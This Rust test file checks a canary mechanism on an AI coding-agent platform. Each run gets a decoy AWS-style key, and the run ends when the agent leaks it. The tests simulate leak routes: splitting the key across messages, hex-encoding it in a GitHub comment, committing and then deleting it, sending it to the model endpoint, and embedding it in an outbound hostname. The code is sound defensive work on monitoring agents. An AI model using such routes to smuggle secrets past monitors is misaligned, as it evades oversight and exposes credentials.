//! Each run has a decoy. Where the agent shows that it has read it, the run ends and nothing of it is served any more.

use std::path::Path;

use anyhow::{Context, Result, ensure};
use http::{Method, StatusCode};
use secrecy::ExposeSecret;
use serde_json::{Value, json};
use stories::{Pod, Story};
use tokio::process::Command;
use vault::Decoy;

use crate::egress::tries;

async fn working(t: &Story) -> Result<Pod> {
    let issue = t.open_issue("Add dark mode").await?;
    t.label("writer", issue, "run:dev").await?;
    Pod::launch(t).await
}

/// The decoy, as the runner is given it.
async fn decoy(pod: &Pod) -> Result<Decoy> {
    let context = pod.call(Method::GET, "context", &Value::Null).await?.ok()?;
    Decoy::parse(context["decoy"].as_str().unwrap_or_default()).context("no decoy")
}

/// How the run stands, and what of it is evidence.
async fn end_of(t: &Story, pod: &Pod) -> Result<(Value, Vec<Value>)> {
    let run = t.owner.get(&format!("runs/{}", pod.lease.run)).await?;
    let timeline = t.owner.get(&format!("runs/{}/timeline", pod.lease.run)).await?;
    let items = timeline["items"].as_array().cloned().unwrap_or_default();
    Ok((run, items.into_iter().filter(|event| event["kind"] == "canary.tripped").collect()))
}

/// The run has ended over its decoy, and its token opens nothing.
async fn tripped(t: &Story, pod: &Pod, place: &str) -> Result<Value> {
    let mut stands = end_of(t, pod).await?;
    stories::until("the end of the run", async || {
        stands = end_of(t, pod).await?;
        Ok(!stands.0["finished_at"].is_null())
    })
    .await?;
    let (run, evidence) = stands;
    assert_eq!((&run["status"], &run["reason"]), (&json!("failed"), &json!("canary")), "{run}");
    assert_eq!(evidence.len(), 1, "{evidence:?}");
    assert_eq!(evidence[0]["data"]["place"], place, "{evidence:?}");
    for path in ["context", "session"] {
        assert_eq!(pod.call(Method::GET, path, &Value::Null).await?.status, StatusCode::UNAUTHORIZED, "{path}");
    }
    assert_eq!(pod.say(1, "I go on").await?.status, StatusCode::UNAUTHORIZED);
    assert_eq!(store::flow::first_break(&t.platform.db, pod.lease.run).await?, None);
    Ok(evidence[0]["data"].clone())
}

#[tokio::test]
async fn a_decoy_that_was_printed_ends_the_run_also_when_it_comes_in_two_pieces() -> Result<()> {
    let mut t = Story::begin().await?;
    let pod = working(&t).await?;
    let file = decoy(&pod).await?.file().expose_secret().to_owned();
    let other = Decoy::generate().file().expose_secret().to_owned();
    assert_eq!(pod.say(1, &format!("I found {other}")).await?.status, StatusCode::OK);
    // The id would do already; the second value lies across the border.
    let (before, key) = file.rsplit_once("= ").context("no key")?;
    let heading = before.rsplit_once('\n').context("no line")?.1;
    assert_eq!(pod.say(2, &format!("{heading}= {}", &key[..17])).await?.status, StatusCode::OK);
    assert_eq!(end_of(&t, &pod).await?.1, Vec::<Value>::new());
    assert_eq!(pod.say(3, &key[17..]).await?.status, StatusCode::UNAUTHORIZED);
    let evidence = tripped(&t, &pod, "output").await?;
    let excerpt = evidence["excerpt"].as_str().unwrap_or_default();
    assert!(excerpt.contains("aws_secret_access_key = [decoy]") && !excerpt.contains(key.trim()), "{excerpt}");
    let run = t.owner.get(&format!("runs/{}", pod.lease.run)).await?;
    let detail = run["reason_detail"].as_str().unwrap_or_default();
    assert_eq!(detail, "The decoy was seen in the agent's output.");
    // What was printed stays in the log: it is what people have to read.
    let log = t.owner.get(&format!("runs/{}/events", pod.lease.run)).await?;
    assert_eq!(log["items"].as_array().map(Vec::len), Some(3));
    t.platform.still_runs()
}

#[tokio::test]
async fn a_decoy_in_a_call_of_a_tool_ends_the_run_and_nothing_is_done() -> Result<()> {
    let mut t = Story::begin().await?;
    let pod = working(&t).await?;
    let key = decoy(&pod).await?.text().expose_secret().to_owned();
    let passes = pod.tool("github_comment_add", &json!({ "body": "aws_secret_access_key = none" })).await?;
    assert_eq!(passes["status"], "ok");
    let call = json!({ "name": "github_comment_add", "arguments": { "body": format!("It is {}", hex::encode(&key)) } });
    assert_eq!(pod.mcp("tools/call", &call).await?.status, StatusCode::UNAUTHORIZED);
    let evidence = tripped(&t, &pod, "tool").await?;
    assert_eq!((&evidence["look"], &evidence["subject"]), (&json!("hex"), &json!("github_comment_add")));
    let sql = "SELECT count(*) FROM outbound_actions WHERE kind = 'agent_comment'";
    let wished: i64 = sqlx::query_scalar(sql).fetch_one(&t.platform.db).await?;
    assert_eq!(wished, 1);
    t.platform.still_runs()
}

/// Git as it is run in a pod, where the relay adds the token; whether it went well, and what it said.
async fn git(pod: &Pod, folder: &Path, args: &[&str]) -> Result<(bool, String)> {
    let token = format!("http.extraHeader=Authorization: Bearer {}", pod.token());
    let mut git = Command::new("git");
    git.current_dir(folder).env("GIT_TERMINAL_PROMPT", "0").args(["-c", &token]);
    let names = ["-c", "user.name=codex", "-c", "user.email=agent@codex-k8s.test", "-c", "http.proxy="];
    let ended = git.args(names).args(args).output().await?;
    Ok((ended.status.success(), String::from_utf8_lossy(&ended.stderr).into_owned()))
}

#[tokio::test]
async fn a_decoy_that_is_pushed_reaches_nobody_and_ends_the_run() -> Result<()> {
    let mut t = Story::begin().await?;
    let pod = working(&t).await?;
    let context = pod.call(Method::GET, "context", &Value::Null).await?.ok()?;
    let branch = context["branch"].as_str().context("no branch")?;
    let key = decoy(&pod).await?.file().expose_secret().to_owned();
    let folder = tempfile::tempdir()?;
    let must = async |folder: &Path, args: &[&str]| {
        let (is_good, said) = git(&pod, folder, args).await?;
        ensure!(is_good, "git {args:?}: {said}");
        anyhow::Ok(())
    };
    let origin = format!("{}/git/{}.git", t.platform.agents_url(), t.github.full_name());
    must(folder.path(), &["clone", "--quiet", &origin, "checkout"]).await?;
    let checkout = folder.path().join("checkout");
    let push = format!("HEAD:refs/heads/{branch}");
    let heads = async || t.github.api("bot", Method::GET, "/branches", &Value::Null).await;
    let before = heads().await?;

    // Taking it out again helps nothing: it is in the history.
    tokio::fs::write(checkout.join("deploy.env"), &key).await?;
    must(&checkout, &["add", "deploy.env"]).await?;
    must(&checkout, &["commit", "--quiet", "--message", "Add settings"]).await?;
    must(&checkout, &["rm", "--quiet", "deploy.env"]).await?;
    must(&checkout, &["commit", "--quiet", "--message", "Take them out again"]).await?;
    let (is_good, said) = git(&pod, &checkout, &["push", "--quiet", "origin", &push]).await?;
    assert!(!is_good && !said.contains(key.trim()), "{said}");
    let evidence = tripped(&t, &pod, "diff").await?;
    assert_eq!(evidence["subject"], "deploy.env", "{evidence}");
    assert_eq!(heads().await?, before, "it was pushed on");
    t.platform.still_runs()
}

#[tokio::test]
async fn neither_the_model_nor_a_foreign_host_is_told_a_decoy() -> Result<()> {
    let mut t = Story::begin().await?;
    let asking = working(&t).await?;
    let key = decoy(&asking).await?.text().expose_secret().to_owned();
    let output = json!({ "type": "function_call_output", "call_id": "1", "output": format!("It says {key}") });
    let call = json!({ "model": "gpt-5.5", "stream": true, "store": false, "input": [output], "tools": [] });
    let url = format!("{}/model/v1/responses", t.platform.agents_url());
    let answer = reqwest::Client::new().post(url).bearer_auth(asking.token()).json(&call).send().await?;
    assert_eq!(answer.status().as_u16(), 401);
    tripped(&t, &asking, "model").await?;

    let dialling = working(&t).await?;
    let text = decoy(&dialling).await?.text().expose_secret().to_owned();
    let (id, key) = text.split_once(':').context("no key")?;
    let answer = tries(&t, &dialling, &format!("{id}.{key}.invalid")).await?;
    assert!(!answer.starts_with("HTTP/1.1 200"), "{answer}");
    tripped(&t, &dialling, "request").await?;
    assert_eq!(t.owner.get("egress-requests?state=open").await?["items"], json!([]), "people are asked about it");
    t.platform.still_runs()
}

#[tokio::test]
async fn each_run_has_its_own_and_keeps_it_from_pod_to_pod() -> Result<()> {
    let mut t = Story::begin().await?;
    let (one, two) = (working(&t).await?, working(&t).await?);
    let (first, other) = (decoy(&one).await?, decoy(&two).await?);
    assert!(first.lookout().find(other.file().expose_secret().as_bytes()).is_none());
    // Another run's is nothing to this one.
    assert_eq!(two.say(1, first.file().expose_secret()).await?.status, StatusCode::OK);
    one.vanish(&t).await?;
    let again = Pod::launch(&t).await?;
    assert_eq!(decoy(&again).await?.text().expose_secret(), first.text().expose_secret());
    let result = json!({ "outcome": "succeeded", "head_sha": "a".repeat(40), "last_word":
        { "summary": format!("The key is {}", first.text().expose_secret()) } });
    assert_eq!(again.call(Method::POST, "result", &result).await?.status, StatusCode::UNAUTHORIZED);
    tripped(&t, &again, "result").await?;
    assert!(end_of(&t, &two).await?.0["finished_at"].is_null());
    t.platform.still_runs()
}

#[tokio::test]
async fn nothing_goes_on_in_the_session_of_such_a_run() -> Result<()> {
    let mut t = Story::begin().await?;
    let issue = t.open_issue("Add dark mode").await?;
    t.label("writer", issue, "run:dev").await?;
    let pod = Pod::launch(&t).await?;
    let keeping = "session?path=sessions/2026/11/22/rollout-a.jsonl&session_id=0192f0c1-2222-7333-8444-0123456789ab";
    assert_eq!(pod.keep(keeping, 1, b"what led there").await?, StatusCode::NO_CONTENT);
    assert_eq!(pod.say(1, decoy(&pod).await?.file().expose_secret()).await?.status, StatusCode::UNAUTHORIZED);
    tripped(&t, &pod, "output").await?;
    t.unlabel("bot", issue, "run:dev").await?;
    let steps = t.owner.get(&format!("runs/{}/next-steps", pod.lease.run)).await?;
    let seen = json!({ "labels_seen": steps["items"][0]["labels"] });
    t.owner.post(&format!("runs/{}/next-steps/retry", pod.lease.run), &seen).await?;
    let again = Pod::launch(&t).await?;
    let context = again.call(Method::GET, "context", &Value::Null).await?.ok()?;
    assert!(context["resume"].is_null() && context["prompt"].is_string(), "{context}");
    t.platform.still_runs()
}
